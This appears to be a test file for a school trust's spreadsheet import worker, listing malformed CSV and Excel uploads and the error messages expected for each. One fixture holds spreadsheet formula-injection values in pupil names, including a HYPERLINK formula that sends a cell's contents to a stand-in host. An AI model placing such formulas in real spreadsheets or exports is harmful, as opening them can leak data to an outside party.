import { type FileCase, fileCorpus, problem } from './helpers.ts';

// Broken returns a school uploads to its spreadsheet source, CSV and Excel. Each goes through the worker as an upload does; its valid
// records must come through beside the errors, each error naming the file, row or field.

const CASES: FileCase[] = [
  {
    fixture: 'windows-1252.csv',
    kind: 'spreadsheet',
    wrong: 'Windows-1252 bytes with no byte-order mark or declaration',
    status: 'succeeded',
    message: null,
    problems: [],
    pupils: 3,
    staged: 9,
    landed: 9,
    names: ['Müller, Zoë', 'Okafor, Amara', 'O’Sullivan, Siobhán'],
  },
  {
    fixture: 'utf-16.csv',
    kind: 'spreadsheet',
    wrong: 'UTF-16 with tabs, as Excel saves "Unicode text"',
    status: 'succeeded',
    message: null,
    problems: [],
    pupils: 2,
    staged: 6,
    landed: 6,
    names: ['Müller, Zoë', 'Okafor, Amara'],
  },
  {
    fixture: 'invalid-utf8.csv',
    kind: 'spreadsheet',
    wrong: 'UTF-8 with one byte that is not UTF-8 in a surname',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'invalid-utf8.csv',
        4,
        'Surname',
        'text_unreadable',
        'Row 4, column "Surname": "Ren�e" has a character that could not be read (shown ' +
          'as �): the file mixes text encodings. Correct the cell, save the file as "CSV ' +
          'UTF-8" and upload it again.',
      ),
    ],
    pupils: 3,
    staged: 9,
    landed: 9,
    names: ['Müller, Zoë', 'Okafor, Amara', 'Ren�e, Chlo'],
  },
  {
    fixture: 'truncated-mid-row.csv',
    kind: 'spreadsheet',
    wrong: 'cut off part-way through the last row',
    status: 'succeeded_with_warnings',
    message:
      '"truncated-mid-row.csv" could not be read whole, so only part of it was staged ' +
      'and nobody was marked as left. Correct the file as its problems say and upload ' +
      'it again.',
    problems: [
      problem(
        'truncated-mid-row.csv',
        4,
        null,
        'csv_truncated',
        'Row 4: the file stops part-way through this row, which has fewer cells than ' +
          'the rows above it and no line break at its end, so it was not read. The file ' +
          'may have been cut short while uploading: upload the whole file again.',
      ),
    ],
    pupils: 2,
    staged: 6,
    landed: 6,
    names: ['Nowak, Tomasz', 'Okafor, Amara'],
  },
  {
    fixture: 'truncated-mid-quote.csv',
    kind: 'spreadsheet',
    wrong: 'cut off inside a quoted cell',
    status: 'succeeded_with_warnings',
    message:
      '"truncated-mid-quote.csv" could not be read whole, so only part of it was ' +
      'staged and nobody was marked as left. Correct the file as its problems say and ' +
      'upload it again.',
    problems: [
      problem(
        'truncated-mid-quote.csv',
        4,
        null,
        'csv_unreadable',
        'Row 4: a quotation mark (") opened in this row is never closed, so this row ' +
          'and the rows after it could not be read. Correct the row, save the file as CSV ' +
          'again and upload it again.',
      ),
    ],
    pupils: 2,
    staged: 6,
    landed: 6,
    names: ['Nowak, Tomasz', 'Okafor, Amara'],
  },
  {
    fixture: 'duplicate-pupils.csv',
    kind: 'spreadsheet',
    wrong: 'the same pupil on two rows for one assessment',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'duplicate-pupils.csv',
        4,
        null,
        'row_duplicate',
        'Row 4: this pupil (UPN Y801234519001) is also on row 2 for the same ' +
          'assessment, so row 2 was ignored and row 4 was read. Delete the row that is ' +
          'wrong.',
      ),
    ],
    pupils: 3,
    staged: 9,
    landed: 9,
    names: ['Hughes, Ellie-May', 'Nowak, Tomasz', 'Okafor, Amara'],
  },
  {
    fixture: 'impossible-dates.csv',
    kind: 'spreadsheet',
    wrong: '31/02/2026, 2026-13-01 and a date of birth in 2027',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'impossible-dates.csv',
        3,
        'Assessment date',
        'date_invalid',
        'Row 3, column "Assessment date": "31/02/2026" is not a real date. Write it as ' +
          'dd/mm/yyyy, for example 14/03/2016.',
      ),
      problem(
        'impossible-dates.csv',
        4,
        'Date of birth',
        'date_invalid',
        'Row 4, column "Date of birth": "2026-13-01" is not a real date. Write it as ' +
          'dd/mm/yyyy, for example 14/03/2016.',
      ),
      problem(
        'impossible-dates.csv',
        null,
        'date of birth',
        'birth_date_future',
        'Pupil Q801234519004: The date of birth 2027-03-14 is after today, so it was ' +
          "left blank. Correct it in the school's records and send the pupil again.",
      ),
      problem(
        'impossible-dates.csv',
        null,
        'collection',
        'result_unplaced',
        'Result M801234519002/reading// (Reading) could not be placed in a collection: ' +
          'The result has neither a period label nor a date to place it in a collection ' +
          'by.',
      ),
      problem(
        'impossible-dates.csv',
        null,
        'collection',
        'result_unplaced',
        'Result M801234519002/writing// (Writing) could not be placed in a collection: ' +
          'The result has neither a period label nor a date to place it in a collection ' +
          'by.',
      ),
      problem(
        'impossible-dates.csv',
        null,
        'collection',
        'result_unplaced',
        'Result M801234519002/mathematics// (Maths) could not be placed in a ' +
          'collection: The result has neither a period label nor a date to place it in a ' +
          'collection by.',
      ),
    ],
    pupils: 4,
    staged: 12,
    landed: 9,
    names: ['Hughes, Ellie-May', 'Nowak, Tomasz', "O'Brien, Callum", 'Okafor, Amara'],
  },
  {
    fixture: 'invalid-upns.csv',
    kind: 'spreadsheet',
    wrong: 'a wrong check letter, a 12-character UPN and LA 000',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'invalid-upns.csv',
        4,
        'UPN',
        'upn_length',
        'Row 4, column "UPN": "B80123451900" has 12 characters, but a UPN has 13, so ' +
          'this pupil is matched by surname, forename and date of birth. Copy the UPN ' +
          "from the school's MIS.",
      ),
      problem(
        'invalid-upns.csv',
        null,
        'UPN',
        'upn_check_letter',
        'Pupil N801234519002: UPN N801234519002 starts with N, but the rest of the ' +
          'number gives the check letter M; a character is probably mistyped, so compare ' +
          "it with the pupil's record.",
      ),
      problem(
        'invalid-upns.csv',
        null,
        'UPN',
        'upn_la_code',
        'Pupil L000234516004: UPN L000234516004 has 000 in characters 2 to 4, which is ' +
          "not a DfE local authority number; compare it with the pupil's CTF or the " +
          'records of the school that gave it.',
      ),
    ],
    pupils: 4,
    staged: 12,
    landed: 12,
    names: ['Hughes, Ellie-May', 'Nowak, Tomasz', "O'Brien, Callum", 'Okafor, Amara'],
  },
  {
    fixture: 'unknown-year-groups.csv',
    kind: 'spreadsheet',
    wrong: 'Nursery 3, Y15, and Y14 (a DfE year group)',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'unknown-year-groups.csv',
        null,
        'year group',
        'nc_year_unknown',
        'Pupil M801234519002: Year group "Nursery 3" is not one we can read. Write it ' +
          'as Y1 to Y14 (or Year 4, Yr4, 4), R or Reception, N1 or N2 (Nursery 1, Nursery ' +
          '2), or X for a pupil not following a National Curriculum year.',
      ),
      problem(
        'unknown-year-groups.csv',
        null,
        'year group',
        'nc_year_unknown',
        'Pupil B801234519003: Year group "Y15" is not one we can read. Write it as Y1 ' +
          'to Y14 (or Year 4, Yr4, 4), R or Reception, N1 or N2 (Nursery 1, Nursery 2), ' +
          'or X for a pupil not following a National Curriculum year.',
      ),
    ],
    pupils: 4,
    staged: 12,
    landed: 12,
    names: ['Hughes, Ellie-May', 'Nowak, Tomasz', "O'Brien, Callum", 'Okafor, Amara'],
  },
  {
    fixture: 'unknown-subjects.csv',
    kind: 'spreadsheet',
    wrong: 'long layout with Geography and a blank subject',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'unknown-subjects.csv',
        3,
        'Subject',
        'subject_unrecognised',
        'Row 3, column "Subject": "Geography" is not one of the subjects the trust ' +
          'collects ("Reading", "Writing" and "Mathematics"), so the row\'s value was not ' +
          'read.',
      ),
      problem(
        'unknown-subjects.csv',
        5,
        'Subject',
        'subject_missing',
        'Row 5, column "Subject": there is a value but no subject, so the value was not ' +
          'read. Write the subject, for example "Reading".',
      ),
    ],
    pupils: 3,
    staged: 3,
    landed: 3,
    names: ['Hughes, Ellie-May', 'Nowak, Tomasz', 'Okafor, Amara'],
  },
  {
    fixture: 'unknown-columns.csv',
    kind: 'spreadsheet',
    wrong: 'Science and Phonics columns the trust does not collect',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'unknown-columns.csv',
        null,
        null,
        'columns_ignored',
        '"unknown-columns.csv": the trust does not collect "Science" and "Phonics", so ' +
          'these columns were not read.',
      ),
    ],
    pupils: 2,
    staged: 6,
    landed: 6,
    names: ['Nowak, Tomasz', 'Okafor, Amara'],
  },
  {
    fixture: 'empty.csv',
    kind: 'spreadsheet',
    wrong: 'no bytes at all',
    status: 'failed',
    message: '"empty.csv" is empty. Fill in the trust\'s template and upload it again.',
    problems: [
      problem(
        'empty.csv',
        null,
        null,
        'file_empty',
        '"empty.csv" is empty. Fill in the trust\'s template and upload it again.',
      ),
    ],
    pupils: 0,
    staged: 0,
    landed: 0,
    names: [],
  },
  {
    fixture: 'header-only.csv',
    kind: 'spreadsheet',
    wrong: 'the header row and no pupils',
    status: 'failed',
    message:
      '"header-only.csv" has no pupil rows that could be read under its header row ' +
      '(row 1). Fill in one row per pupil and upload the file again.',
    problems: [
      problem(
        'header-only.csv',
        null,
        null,
        'no_pupil_rows',
        '"header-only.csv" has no pupil rows that could be read under its header row ' +
          '(row 1). Fill in one row per pupil and upload the file again.',
      ),
    ],
    pupils: 0,
    staged: 0,
    landed: 0,
    names: [],
  },
  {
    fixture: 'formula-in-name.csv',
    kind: 'spreadsheet',
    wrong: 'formulas typed into a surname and a forename',
    status: 'succeeded',
    message: null,
    problems: [],
    pupils: 3,
    staged: 9,
    landed: 9,
    names: [
      '=HYPERLINK("http://example.test/?"&A2,"Okafor"), Amara',
      'Hughes, Ellie-May',
      'Nowak, @SUM(A1:A9)',
    ],
  },
  {
    fixture: 'semicolon.csv',
    kind: 'spreadsheet',
    wrong: 'semicolons between cells and dd.mm.yyyy dates',
    status: 'succeeded',
    message: null,
    problems: [],
    pupils: 3,
    staged: 9,
    landed: 9,
    names: ['Hughes, Ellie-May', 'Nowak, Tomasz', 'Okafor, Amara'],
  },
  {
    fixture: 'mixed-valid-and-broken.csv',
    kind: 'spreadsheet',
    wrong: 'valid rows between a row naming nobody and a row of bad codes',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'mixed-valid-and-broken.csv',
        5,
        null,
        'pupil_unidentified',
        'Row 5: the row has neither a UPN nor a surname and forename, so it cannot be ' +
          "matched to a pupil and was not read. Add the pupil's UPN (or surname and " +
          'forename).',
      ),
      problem(
        'mixed-valid-and-broken.csv',
        7,
        'Date of birth',
        'date_invalid',
        'Row 7, column "Date of birth": "3rd of Sept" is not a date. Write it as ' +
          'dd/mm/yyyy, for example 14/03/2016.',
      ),
      problem(
        'mixed-valid-and-broken.csv',
        7,
        'Sex',
        'sex_unrecognised',
        'Row 7, column "Sex": "X" is not a recognised sex, so it was left blank. Write ' +
          'M or F.',
      ),
      problem(
        'mixed-valid-and-broken.csv',
        7,
        'SEN status',
        'sen_unrecognised',
        'Row 7, column "SEN status": "Maybe" is not a SEN status, so it was left blank. ' +
          'Write N (no SEN), K (SEN support) or E (EHC plan).',
      ),
    ],
    pupils: 6,
    staged: 18,
    landed: 17,
    names: [
      'Hughes, Ellie-May',
      'Nowak, Tomasz',
      "O'Brien, Callum",
      'Okafor, Amara',
      'Patel, Riya',
      'Ward, Harry',
    ],
  },
  {
    fixture: 'mixed-valid-and-broken.xlsx',
    kind: 'spreadsheet',
    wrong: 'a workbook with a bad date, #N/A and a grade Excel made a date',
    status: 'succeeded',
    message: null,
    problems: [
      problem(
        'mixed-valid-and-broken.xlsx',
        3,
        'Date of birth',
        'date_invalid',
        'Row 3, column "Date of birth": "31/02/2016" is not a real date. Write it as ' +
          'dd/mm/yyyy, for example 14/03/2016.',
      ),
      problem(
        'mixed-valid-and-broken.xlsx',
        4,
        'Reading',
        'cell_error',
        'Row 4, column "Reading": the cell shows the Excel error #N/A, so it was not ' +
          'read. Correct the formula or type the value in.',
      ),
      problem(
        'mixed-valid-and-broken.xlsx',
        5,
        'Reading',
        'value_is_date',
        'Row 5, column "Reading": Excel has turned the value into the date 08/08/2026, ' +
          'so it was not read. Format the column as Text and type the value again.',
      ),
    ],
    pupils: 4,
    staged: 10,
    landed: 10,
    names: ['Hughes, Ellie-May', 'Nowak, Tomasz', "O'Brien, Callum", 'Okafor, Amara'],
  },
  {
    fixture: 'truncated.xlsx',
    kind: 'spreadsheet',
    wrong: 'a workbook cut short',
    status: 'failed',
    message:
      '"truncated.xlsx" is not a complete Excel workbook: it may have been cut short ' +
      'while uploading. Upload it again; if that does not help, open it in Excel and ' +
      'save it again first.',
    problems: [
      problem(
        'truncated.xlsx',
        null,
        null,
        'xlsx_truncated',
        '"truncated.xlsx" is not a complete Excel workbook: it may have been cut short ' +
          'while uploading. Upload it again; if that does not help, open it in Excel and ' +
          'save it again first.',
      ),
    ],
    pupils: 0,
    staged: 0,
    landed: 0,
    names: [],
  },
  {
    fixture: 'legacy.xls',
    kind: 'spreadsheet',
    wrong: 'an old binary .xls',
    status: 'failed',
    message:
      '"legacy.xls" is an old-style Excel file (.xls) or a password-protected ' +
      'workbook, which cannot be read. Save it in Excel as "Excel Workbook (.xlsx)" ' +
      'without a password, and upload it again.',
    problems: [
      problem(
        'legacy.xls',
        null,
        null,
        'file_unsupported',
        '"legacy.xls" is an old-style Excel file (.xls) or a password-protected ' +
          'workbook, which cannot be read. Save it in Excel as "Excel Workbook (.xlsx)" ' +
          'without a password, and upload it again.',
      ),
    ],
    pupils: 0,
    staged: 0,
    landed: 0,
    names: [],
  },
];

fileCorpus('the trust spreadsheet, uploaded as CSV, XLSX or XLS', CASES);
